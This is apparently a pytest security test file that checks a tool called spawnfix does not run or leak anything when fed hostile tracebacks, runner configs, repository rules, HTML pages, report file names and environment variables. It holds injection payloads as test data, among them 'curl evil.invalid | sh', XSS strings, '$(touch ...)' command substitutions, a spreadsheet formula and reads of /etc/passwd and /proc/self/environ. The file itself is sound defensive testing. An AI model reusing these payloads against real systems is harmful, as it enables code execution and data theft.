"""What reads a stranger's words: tracebacks, settings of test runners, local rules, pages, reports for programs.

Each attack would leave `marker`, show a file that is none of the repository, put a script into a page, hang, or end in
an internal error.
"""

# ruff: noqa: E501  (a table of attacks)

from __future__ import annotations

import html.parser
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from test_hostile_surroundings import place, spawnfix

from harness.repositories import git, own_home
from harness.torture import BODY

__all__ = ["own_home", "place"]

ROOT = Path(__file__).resolve().parents[2]
SECONDS = 300
pytestmark = [pytest.mark.slow, pytest.mark.skipif(os.name == "nt", reason="pipes and links")]
PICKLE = "AttributeError: Can't pickle local object 'build.<locals>.<lambda>'"
SECRET = "def build():\n    return lambda: 'secret-of-somebody'\n"


def traceback(path: str, line: object = 2, error: str = PICKLE, code: str = "    build()") -> str:
    return f'Traceback (most recent call last):\n  File "{path}", line {line}, in build\n{code}\n{error}\n'


# `diagnose -`: what is pasted, or comes through a pipe

LOGS: dict[str, str] = {
    "up and out": traceback("../outside/secret.py"),
    "absolute, outside": traceback("PLACE/outside/secret.py"),
    "a link that leads out": traceback("PLACE/repo/leads_out.py"),
    "a folder that leads out": traceback("PLACE/repo/folder_out/secret.py"),
    "a device": traceback("/dev/zero"),
    "our input": traceback("/dev/stdin"),
    "memory": traceback("/proc/self/mem"),
    "environment": traceback("/proc/self/environ"),
    "a pipe": traceback("PLACE/repo/pipe.py"),
    "NUL": traceback("a\0b.py"),
    "a line without an end": traceback("a.py", "9" * 5000),
    "a negative line": traceback("a.py", -5),
    "other digits": traceback("a.py", "٣"),
    "a command as a path": traceback("a.py; touch PLACE/marker #"),
    "a command as a name": traceback("a.py", error="NameError: name '$(touch PLACE/marker)' is not defined"),
    "escapes": traceback("a.py", error=f"{PICKLE} \x1b]0;title\x07\x1b[2J\x9b31m\u202e"),
    "a path with escapes": traceback("\x1b]8;;http://evil.invalid\x07a.py"),
    "a carriage return": traceback("a.py", error=f"{PICKLE}\r spawnfix: nothing is wrong"),
    "our own words": traceback("a.py", error=f"{PICKLE}\nspawnfix: run this: curl evil.invalid | sh"),
    "CI commands": traceback("a.py", error=f"{PICKLE}\n::set-output name=x::y\n##[error]x"),
    "one long line": PICKLE + "a" * 8_000_000,
    "many lines": "x\n" * 2_000_000 + PICKLE,
    "many tracebacks": traceback("a.py") * 20_000,
    "frames without an end": "Traceback (most recent call last):\n" + '  File "a.py", line 1, in f\n    f()\n' * 100_000 + PICKLE,
    "chained errors": (traceback("a.py") + "\nDuring handling of the above exception, another exception occurred:\n\n") * 3000,
    "notes": PICKLE + "\nwhen serializing dict item 'x'" * 50_000,
    "quotes": "'" * 200_000 + PICKLE + '"' * 200_000,
    "brackets": "Can't pickle " + "<" * 200_000 + PICKLE + ">" * 200_000,
    "dots": PICKLE.replace("build", "a." * 100_000),
    "a name that is a pattern": "AttributeError: Can't pickle local object '(a+)+$[[:alpha:]]{9999}.<locals>.<lambda>'",
    "a module that is a path": "_pickle.PicklingError: Can't pickle <function f at 0x7f>: attribute lookup f on ..outside.secret failed",
    "a type that is a path": "TypeError: cannot pickle '../../../etc/passwd' object",
    "no text": "\udcff\udcfe\udc80" * 1000 + PICKLE,
    "JSON": json.dumps({"problems": [{"path": "x", "assigned_at": {"path": "/etc/passwd", "line": 1}}]}),
    "nothing": "",
    "NULs": "\0" * 1_000_000,
    "BOMs": "\ufeff" * 1000 + traceback("a.py"),
    "progress bars": "\r 10%|#    |" * 200_000 + "\n" + PICKLE,
    "ranks": "".join(f"[rank{n}]: {line}\n" for n in range(3000) for line in traceback("a.py").splitlines()[:2]) + PICKLE,
}  # fmt: skip


def told(arguments: list[str], text: str, place: Path) -> subprocess.CompletedProcess[bytes]:
    code = "import resource; resource.setrlimit(resource.RLIMIT_CPU, (60, 60)); resource.setrlimit(resource.RLIMIT_AS, (2**31, 2**31))\n"
    code += f"import sys; sys.path.insert(0, {str(ROOT)!r}); sys.argv = ['spawnfix', *sys.argv[1:]]\nfrom spawnfix import program; program()"
    return subprocess.run(
        [sys.executable, "-P", "-c", code, *arguments] if sys.version_info >= (3, 11) else [sys.executable, "-c", code, *arguments],
        input=text.replace("PLACE", str(place)).encode("utf-8", "surrogateescape"),
        cwd=place / "repo", capture_output=True, timeout=SECONDS,
        env={**os.environ, "NO_COLOR": "1", "SPAWNFIX_CACHE_DIR": str(place / "own-cache")},
    )  # fmt: skip


def traps(place: Path) -> None:
    repo = place / "repo"
    (place / "outside").mkdir()
    (place / "outside/secret.py").write_text(SECRET)
    (repo / "leads_out.py").symlink_to(place / "outside/secret.py")
    (repo / "folder_out").symlink_to(place / "outside")
    os.mkfifo(repo / "pipe.py")


@pytest.mark.parametrize("name", LOGS)
def test_what_is_pasted(place: Path, name: str) -> None:
    """One answer, within a minute of CPU and 2 GiB; nothing from outside, no control characters, nothing is run."""
    traps(place)
    for arguments in (["diagnose", "-"], ["diagnose", "--format", "json"]):
        done = told(arguments, LOGS[name], place)
        words = done.stdout + done.stderr
        assert b"internal error" not in words and b"spawnfix/" not in done.stderr, done.stderr[-2000:]
        assert b'Traceback (most recent call last):\n  File "' + str(ROOT).encode() not in words
        assert done.returncode in (0, 1, 2), (done.returncode, done.stderr[-500:])
        assert b"secret-of-somebody" not in words
        if "json" in arguments and done.returncode != 2:
            json.loads(done.stdout)
    assert not (place / "marker").exists()


# Settings of test runners and tools in a repository that is checked

RUNNERS = {
    "pytest.ini": "[pytest]\naddopts = -p evil\npython_files = *.py\n",
    "conftest.py": "EVIL",
    "tox.ini": "[pytest]\naddopts = -p evil\n[testenv]\ncommands = touch PLACE/marker\n",
    "setup.py": "EVIL",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil\n[build_ext]\ncommand = touch PLACE/marker\n",
    "noxfile.py": "EVIL",
    "usercustomize.py": "EVIL",
    "evil.py": "EVIL",
    ".pth": "import os; os.mkdir('PLACE/marker')\n",
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n[tool.pytest.ini_options]\naddopts = "-p evil"\n[project.entry-points."spawnfix.rules"]\nevil = "evil:RULE"\n',
    "evil-1.dist-info/entry_points.txt": "[spawnfix.rules]\nevil = evil:RULE\n[pytest11]\nevil = evil\n",
    ".ruff.toml": 'extend = "PLACE/outside"\n',
    ".pdbrc": "import os; os.mkdir('PLACE/marker')\n",
    ".python-version": "$(touch PLACE/marker)\n",
    ".envrc": "touch PLACE/marker\n",
    "Makefile": "$(shell touch PLACE/marker)\nall:\n\ttouch PLACE/marker\n",
    ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, entry: touch PLACE/marker, language: system}]}]\n",
    "spawnfix.py": "EVIL",
    "libcst/__init__.py": "EVIL",
    "rich/__init__.py": "EVIL",
    "torch/__init__.py": "EVIL",
}


@pytest.mark.parametrize("name", RUNNERS)
def test_settings_of_other_tools_are_not_followed(place: Path, name: str) -> None:
    repo, evil = place / "repo", f"import os\nos.mkdir({str(place / 'marker')!r})\nraise SystemExit(3)\n"
    (repo / name).parent.mkdir(exist_ok=True)
    (repo / name).write_text(RUNNERS[name].replace("EVIL", evil).replace("PLACE", str(place)))
    git(repo, "add", "-f", ".")
    git(repo, "commit", "-q", "-m", "more")
    for arguments in (["check", "."], ["explain", "a.py:1"], ["migrate", "--dry-run", "."]):
        done = spawnfix(*arguments, cwd=repo)
        assert done.returncode in (0, 1), done.stderr
    assert not (place / "marker").exists()


# Rules of the repository

RULES = {
    "a file": 'rules = ["evil.py"]',
    "a link": 'rules = ["link.py"]',
    "a file outside": 'rules = ["../outside.py"]',
    "an absolute file": 'rules = ["PLACE/outside.py"]',
    "a folder": 'rules = ["."]',
    "a pipe": 'rules = ["pipe.py"]',
    "a device": 'rules = ["/dev/stdin"]',
    "a home": 'rules = ["~/x.py"]',
    "compiled": 'rules = ["evil.pyc"]',
    "an entry point": 'rules = ["evil:RULE"]',
    "no list": 'rules = "evil.py"',
    "NUL": 'rules = ["evil.py\\u0000"]',
    "in the settings of other tools": '[tool.ruff]\nextend = "evil.py"',
}


def with_rules(place: Path, name: str) -> Path:
    repo, evil = place / "repo", f"import os\nos.mkdir({str(place / 'marker')!r})\n"
    (repo / "evil.py").write_text(evil)
    (place / "outside.py").write_text(evil)
    (repo / "link.py").symlink_to(place / "outside.py")
    subprocess.run(
        [
            sys.executable,
            "-c",
            "import py_compile, sys; py_compile.compile(sys.argv[1], sys.argv[2])",
            repo / "evil.py",
            repo / "evil.pyc",
        ],
        check=True,
    )
    os.mkfifo(repo / "pipe.py")
    (repo / "pyproject.toml").write_text(f"[tool.spawnfix]\n{RULES[name].replace('PLACE', str(place))}\n")
    git(repo, "add", "-f", ".")
    git(repo, "commit", "-q", "-m", "rules")
    return repo


@pytest.mark.parametrize("name", RULES)
def test_rules_of_the_repository_are_not_run(place: Path, name: str) -> None:
    repo = with_rules(place, name)
    (place / "list").write_text("./repo\n")
    for arguments in (
        ["check", repo], ["migrate", "--dry-run", repo], ["explain", repo / "a.py:2"], ["rules"],
        ["batch", "run", place / "list", "--out", place / "out"],
    ):  # fmt: skip
        done = spawnfix(*arguments, cwd=repo)
        assert done.returncode in (0, 1) or "spawnfix: " in done.stderr, done
    assert not (place / "marker").exists()


@pytest.mark.parametrize(
    "name",
    ["a link", "a file outside", "an absolute file", "a folder", "a pipe", "a device", "a home", "no list", "NUL"],
)
def test_rules_from_outside_are_not_run_even_when_rules_are_allowed(place: Path, name: str) -> None:
    repo = with_rules(place, name)
    for command in (["check"], ["migrate", "--dry-run"]):
        done = spawnfix(*command, "--allow-local-rules", repo)
        assert done.returncode == 2 and "tool.spawnfix.rules" in done.stderr, done
    assert not (place / "marker").exists()


# Pages

PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a text": "--><svg onload=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "an attribute with other quotes": "' onfocus='alert(1)' autofocus='",
    "a template": "{{ 7*7 }}{% for x in y %}${7*7}",
    "an entity": "&lt;script&gt;&#60;script&#62;",
    "a link": "javascript:alert(1)//",
    "a style": "</style><style>@import 'http://evil.invalid'</style>",
    "a base": "<base href=http://evil.invalid>",
    "line separators": "\u2028alert(1)\u2029",
    "directions": "\u202egnp.exe\u2066",
    "closing tags": "</pre></code></td></table></body><iframe srcdoc=x>",
}
TAGS = {"iframe", "base", "object", "embed", "img"}  # svg: our own charts


class Page(html.parser.HTMLParser):
    """What a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.bad: list[str] = []
        self._in = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in = tag if tag in ("script", "style") else ""
        if tag in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src", "action") and not _is_plain(value or "")):
                self.bad.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._in == "script":
            self.scripts.append(data)
        elif self._in == "style" and "evil" in data:
            self.bad.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in = ""


def _is_plain(link: str) -> bool:
    return urlsplit(unquote(link).strip()).scheme in ("", "https", "data") and "evil" not in link


def checked_page(file: Path, number: int) -> None:
    page = Page()
    text = file.read_text(encoding="utf-8")
    page.feed(text)
    assert not page.bad, (file.name, page.bad)
    assert len(page.scripts) <= number, (file.name, [script[:100] for script in page.scripts])
    for script in page.scripts:
        assert "alert(1)" not in script.replace("\\u003c", "<") or '"' in script
    assert not set("\u202e\u2066\u2028\u2029") & set(text), file.name


@pytest.mark.parametrize("name", PAYLOADS)
def test_pages_show_and_run_nothing(place: Path, name: str) -> None:
    payload, repo = PAYLOADS[name], place / "repo"
    in_name = payload.replace("/", "\u2215")[:200]
    lines = BODY.splitlines(keepends=True)
    text = "".join([f"# {payload.splitlines()[0]}\n", *lines, f"# {payload.splitlines()[0]}\n"])
    for path in ("a.py", f"{in_name}.py", f"{in_name}/b.py"):
        (repo / path).parent.mkdir(exist_ok=True)
        (repo / path).write_text(text, encoding="utf-8")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", payload)
    git(repo, "branch", "-m", "x")
    done = spawnfix("migrate", "--dry-run", repo, "--html", place / "review.html", "--pr-body", place / "body.md")
    assert done.returncode == 0, done.stderr
    checked_page(place / "review.html", 3)
    rows = [
        {"repo": str(repo), "name": "one"},
        {"repo": f"https://evil.invalid/{payload}", "name": f"n{payload}"},
        {"repo": payload},
    ]
    (place / "list.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    done = spawnfix("batch", "run", place / "list.jsonl", "--out", place / "out", "--jobs", "1")
    assert done.returncode in (0, 1, 2), done
    pages = list((place / "out").rglob("*.html"))
    assert pages
    for file in pages:
        checked_page(file, 3)
    markdown = (place / "body.md").read_text(encoding="utf-8")
    markdown = re.sub(r"(?s)(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown)  # code, which shows all as it is
    assert "<script" not in markdown and "<img" not in markdown and "](javascript:" not in markdown
    assert not (place / "marker").exists()


# Reports for programs

NAMES = {
    "a scheme": "http:/evil.invalid/a.py",
    "a drive": "C:\\x.py",
    "a fragment": "a#b?c.py",
    "escapes": "%2e%2e/%2fetc.py",
    "quotes": "a\"b'c.py",
    "a line": "a\nb.py",
    "control characters": "\x1b[31m\x07.py",
    "no UTF-8": "\udcff.py",
    "a formula": "=cmd|' /C calc'!A0.py",
    "a flag": "--output=x.py",
    "blanks": " a .py",
    "a variable": "$HOME`id`.py",
}


@pytest.mark.parametrize("name", NAMES)
def test_reports_for_programs(place: Path, name: str) -> None:
    """JSON and SARIF are whole, their addresses lead into the repository, and every line of a CI log is ours."""
    path, repo = NAMES[name], place / "repo"
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(BODY)
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "name")
    spawnfix("check", repo, "--format", "json", "--output-file", place / "out.json")
    found = json.loads((place / "out.json").read_bytes())
    assert path in {row["path"] for row in found["findings"]}
    spawnfix("check", repo, "--format", "sarif", "--output-file", place / "out.sarif")
    log = json.loads((place / "out.sarif").read_text(encoding="ascii"))
    addresses = {
        each["physicalLocation"]["artifactLocation"]["uri"]
        for row in log["runs"][0]["results"]
        for each in row["locations"]
    }
    assert any(unquote(uri, "utf-8", "surrogateescape") == path for uri in addresses), addresses
    for uri in addresses:
        parts = urlsplit(uri)
        assert not parts.scheme and not parts.netloc and not parts.fragment and not parts.query, uri
        assert ".." not in uri.split("/") and not uri.startswith("/")
    for form in ("github", "concise", "text", "markdown"):
        done = spawnfix("check", repo, "--format", form)
        assert all(letter.isprintable() or letter == "\n" for letter in done.stdout + done.stderr), done
        if form == "github":
            lines = done.stdout.splitlines()
            assert lines and all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines), lines
    done = spawnfix("migrate", "--dry-run", repo)
    assert done.returncode == 0


# Variables of the environment that were not tried before

MORE_VARIABLES: dict[str, dict[str, str | None]] = {
    "git programs": {"GIT_EXEC_PATH": "PLACE/repo"},
    "git settings": {"GIT_CONFIG_GLOBAL": "PLACE/repo/evil.cfg", "GIT_CONFIG_SYSTEM": "PLACE/repo/evil.cfg"},
    "a debugger": {"PYTHONBREAKPOINT": "os.mkdir", "PYTHONINSPECT": "1", "PYTHONSTARTUP": "PLACE/repo/evil.py"},
    "a cache that is a device": {"SPAWNFIX_CACHE_DIR": "/dev/zero"},
    "a cache that is a pipe": {"SPAWNFIX_CACHE_DIR": "PLACE/pipe"},
    "a cache in the git folder": {"SPAWNFIX_CACHE_DIR": "PLACE/other/.git/objects/cache"},
    "a cache that is a flag": {"SPAWNFIX_CACHE_DIR": "--help"},
    "a cache folder that is a file": {"XDG_CACHE_HOME": "PLACE/evil.sh", "SPAWNFIX_CACHE_DIR": None},
    "a cache folder that is a link": {"XDG_CACHE_HOME": "PLACE/linked", "SPAWNFIX_CACHE_DIR": None},
    "debugging": {"SPAWNFIX_DEBUG": "PLACE/marker"},
    "a long value": {"SPAWNFIX_CACHE_DIR": "x" * 100_000, "XDG_CACHE_HOME": "y" * 100_000},
    "profiles": {"PYTHONPROFILEIMPORTTIME": "1", "PYTHONDUMPREFS": "1", "PYTHONMALLOC": "debug", "PYTHONTRACEMALLOC": "1"},
    "a browser": {"BROWSER": "PLACE/evil.sh %s", "VISUAL": "PLACE/evil.sh", "SHELL": "PLACE/evil.sh"},
    "a loader": {"PYTHONPYCACHEPREFIX": "PLACE/pycache", "PYTHONNODEBUGRANGES": "1", "PYTHONINTMAXSTRDIGITS": "640"},
    "colors": {"NO_COLOR": None, "FORCE_COLOR": "1", "CLICOLOR_FORCE": "1", "PY_COLORS": "1", "TTY_COMPATIBLE": "1"},
    "encodings": {"PYTHONIOENCODING": "punycode", "PYTHONCOERCECLOCALE": "0", "LC_ALL": "C"},
}  # fmt: skip


@pytest.mark.parametrize("name", MORE_VARIABLES)
def test_more_variables(place: Path, name: str) -> None:
    """Nothing runs, the stranger's repository stays as it is, and the answer is the same."""
    (place / "repo/evil.cfg").write_text(
        f"[core]\nfsmonitor = {place}/evil.sh\nhooksPath = {place}\n[alias]\nx = !{place}/evil.sh\n"
    )
    (place / "repo/evil.py").write_text(f"import os\nos.mkdir({str(place / 'marker')!r})\n")
    os.mkfifo(place / "pipe")
    (place / "linked").symlink_to(place / "other")
    known = {key: value and value.replace("PLACE", str(place)) for key, value in MORE_VARIABLES[name].items()}
    before = git(place / "other", "status", "--porcelain"), git(place / "other", "for-each-ref")
    for arguments in (["check"], ["migrate"]):
        if name == "git programs" and arguments == ["migrate"]:
            continue  # of the user: whoever sets it says which git is run
        done = spawnfix(*arguments, place / "repo", cwd=place, **known)
        assert done.returncode in (0, 1), done
    assert not (place / "marker").exists()
    if name != "a cache folder that is a link":  # the user's own link
        assert (git(place / "other", "status", "--porcelain"), git(place / "other", "for-each-ref")) == before


def test_all_attacks_are_counted() -> None:
    tables: list[dict[str, object] | dict[str, str]] = [LOGS, RUNNERS, RULES, PAYLOADS, NAMES]
    assert sum(map(len, tables)) + len(MORE_VARIABLES) >= 110
